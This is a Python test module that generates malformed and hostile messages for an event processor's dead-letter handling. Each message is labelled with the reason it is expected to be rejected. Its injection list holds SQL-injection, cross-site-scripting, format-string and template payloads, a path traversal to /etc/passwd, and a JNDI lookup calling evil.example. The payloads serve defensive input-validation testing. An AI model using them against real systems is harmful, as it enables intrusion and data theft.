"""Generated hostile input for scenario 5: every way a message on ``iop.events.v1`` can be wrong.

Each bad message carries the dead-letter reason the processor must give it, so a test can check not
only that it was dead-lettered but why. Deterministic from a ``random.Random``.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from iopcare.contract import InboundEvent, InvalidEvent, decode_event, encode_event

# Strings a hostile or broken sender puts into text fields.
INJECTIONS: tuple[str, ...] = (
    "'; DROP TABLE event_log; --",
    '" OR 1=1 --',
    "p-1' UNION SELECT state FROM patient_state --",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "%s%s%s%n%x{0}{__class__}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "a\x00b",
    "\x1b[31mred\x1b[0m\r\n\t\x07",
    "\u202eevil\u202c",
    "\ud83d\ude00 \u0000",
    "../../../../etc/passwd",
    "A" * 70_000,
)


@dataclass(frozen=True)
class Bad:
    """A message that must be dead-lettered with ``reason``."""

    key: bytes | None
    value: bytes
    reason: str


def _document(event: InboundEvent) -> dict[str, Any]:
    return json.loads(encode_event(event))


def _string_paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _string_paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _string_paths(item, (*path, index))


def _set(document: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    copy = json.loads(json.dumps(document))
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return copy


def bad_messages(valid: list[InboundEvent], count: int, rng: random.Random) -> list[Bad]:
    """``count`` bad messages made from the valid events (so each is wrong in one way only), every
    kind in turn: invalid UTF-8 and JSON, not an object, wrong types, missing fields, unknown types,
    oversized (1 MB+ a few times, the rest just over the limit), a key that is not the subject,
    absurd times, injection strings in every string field (where the contract refuses them)."""
    kinds = [
        _undecodable,
        _invalid_json,
        _not_an_object,
        _wrong_type,
        _missing_field,
        _unknown_type,
        _oversized,
        _key_mismatch,
        _absurd_time,
        _injected,
    ]
    out: list[Bad] = []
    index = 0
    while len(out) < count:
        event = valid[rng.randrange(len(valid))]
        made = kinds[index % len(kinds)](event, rng, index)
        index += 1
        if made is not None:
            out.append(made)
    return out


def _key(event: InboundEvent) -> bytes:
    return event.subject.encode()


def _undecodable(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    raw = bytearray(encode_event(event))
    raw[rng.randrange(len(raw))] = rng.choice([0xFF, 0xFE, 0xC0, 0x80])
    return Bad(_key(event), bytes(raw), "undecodable")


def _invalid_json(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    raw = encode_event(event)
    broken = rng.choice([raw[: len(raw) // 2], raw + b"}", raw.replace(b":", b"=", 1), b"", b"{", b"NaN"])
    return Bad(_key(event), broken, "invalid_json")


def _not_an_object(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    value = rng.choice([b"[]", b"42", b'"p-1"', b"null", b"true", b"[" + encode_event(event) + b"]"])
    return Bad(_key(event), value, "not_an_object")


def _wrong_type(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    document = _document(event)
    path = rng.choice([("id",), ("time",), ("specversion",), ("subject",), ("source",)])
    value = rng.choice([1, 1.5, True, None, [], {}])
    return Bad(_key(event), json.dumps(_set(document, path, value)).encode(), "schema_violation")


def _missing_field(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    document = _document(event)
    field = rng.choice(["id", "source", "time", "subject", "specversion", "data"])
    document.pop(field)
    return Bad(_key(event), json.dumps(document).encode(), "schema_violation")


def _unknown_type(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    document = _document(event)
    document["type"] = rng.choice(["iop.checkin.deleted", "", "IOP.CHECKIN.SUBMITTED", "'; --"])
    return Bad(_key(event), json.dumps(document).encode(), "unknown_type")


def _oversized(event: InboundEvent, rng: random.Random, index: int) -> Bad:
    document = _document(event)
    # One in a hundred over 1 MB (the broker's default message size), the rest just over the limit.
    size = 1_100_000 if index % 100 == 6 else 270_000
    document["padding"] = "x" * size
    return Bad(_key(event), json.dumps(document).encode(), "oversized")


def _key_mismatch(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    key = rng.choice([b"p-someone-else", b"", event.subject.upper().encode() + b"x", b"\xff\xfe"])
    return Bad(key, encode_event(event), "key_mismatch")


def _absurd_time(event: InboundEvent, rng: random.Random, _: int) -> Bad:
    document = _document(event)
    when = rng.choice(
        [
            ("9999-12-31T23:59:59Z", "schema_violation"),  # the contract's years are 2000-2099
            ((datetime.now(UTC) + timedelta(days=400)).isoformat(), "future_time"),
            ("0001-01-01T00:00:00", "schema_violation"),  # naive
            ("2026-02-30T10:00:00Z", "schema_violation"),
            ("not a time", "schema_violation"),
            ("1970-01-01T00:00:00+25:00", "schema_violation"),
        ]
    )
    reason = when[1]
    if reason == "future_time" and event.type == "iop.consent.granted":
        reason = "schema_violation"  # the grant's expiry now falls before it: the schema says so first
    return Bad(_key(event), json.dumps(_set(document, ("time",), when[0])).encode(), reason)


# Where an injection string is refused by the contract; ``id`` and ``source`` accept printable
# ASCII (CloudEvents), so there such strings make valid events: see :func:`injected_but_valid`.
_FREE_TEXT = {("id",), ("source",)}


def _injected(event: InboundEvent, rng: random.Random, _: int) -> Bad | None:
    """An injection string in a string field the contract constrains: the type, enums, ids in data,
    times, the subject (which then is a key mismatch too: the schema is checked first)."""
    document = _document(event)
    path = rng.choice([p for p in _string_paths(document) if p not in _FREE_TEXT])
    injection = rng.choice(INJECTIONS)
    reason = "unknown_type" if path == ("type",) else "schema_violation"
    if path == ("subject",) and _printable(injection):
        return None  # a well-formed subject that is not the key: covered by the key mismatch kind
    return Bad(_key(event), json.dumps(_set(document, path, injection)).encode(), reason)


def _printable(text: str) -> bool:
    return all(0x21 <= ord(c) <= 0x7E for c in text)


def injected_but_valid(valid: list[InboundEvent], count: int, rng: random.Random) -> list[InboundEvent]:
    """Events whose id or source is an injection string the contract allows (printable ASCII): they
    must be applied like any event, stored as given, and never interpreted."""
    allowed = [s for s in INJECTIONS if _printable(s) and len(s) < 200]
    out: list[InboundEvent] = []
    n = 0
    while len(out) < count:
        n += 1
        event = valid[rng.randrange(len(valid))]
        injection = rng.choice(allowed)
        field = rng.choice(["id", "source"])
        changes = {"id": f"{injection}#{n}"} if field == "id" else {"source": injection, "id": f"inj-{n}"}
        try:  # through the contract, as the processor will see it
            out.append(decode_event(encode_event(event.model_copy(update=changes)), key=event.subject))
        except InvalidEvent:
            continue  # e.g. a source that is not a URI reference: the contract refuses it (a bad kind)
    return out
